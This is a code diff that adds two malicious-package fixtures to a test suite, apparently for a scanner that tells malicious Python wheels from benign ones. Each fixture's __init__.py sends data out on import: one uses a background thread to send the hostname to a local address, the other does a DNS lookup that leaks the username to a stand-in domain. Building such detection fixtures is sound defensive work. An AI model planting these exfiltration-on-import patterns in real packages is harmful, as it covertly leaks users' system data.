@@ -587,6 +587,27 @@ MALICIOUS: dict[str, tuple[str, bytes]] = {
             },
         ),
     ),
+    # Host data sent from a thread started on import, and a DNS look-up carrying it.
+    "exfiltration:thread-on-import": (
+        "threadx-0.1-py3-none-any.whl",
+        wheel(
+            "threadx",
+            "0.1",
+            {
+                "threadx/__init__.py": "import platform, threading, urllib.request\n\n\ndef beacon():\n    urllib.request.urlopen('http://127.0.0.1:9/b?h=' + platform.node())\n\n\nthreading.Thread(target=beacon, daemon=True).start()\n",
+            },
+        ),
+    ),
+    "exfiltration:dns-resolver": (
+        "dnsx-0.1-py3-none-any.whl",
+        wheel(
+            "dnsx",
+            "0.1",
+            {
+                "dnsx/__init__.py": "import getpass\nimport dns.resolver\n\ndns.resolver.resolve(getpass.getuser() + '.leak.example.invalid', 'A')\n",
+            },
+        ),
+    ),
 }
 BENIGN: dict[str, bytes] = {
     "tidy-1.0-py3-none-any.whl": wheel(
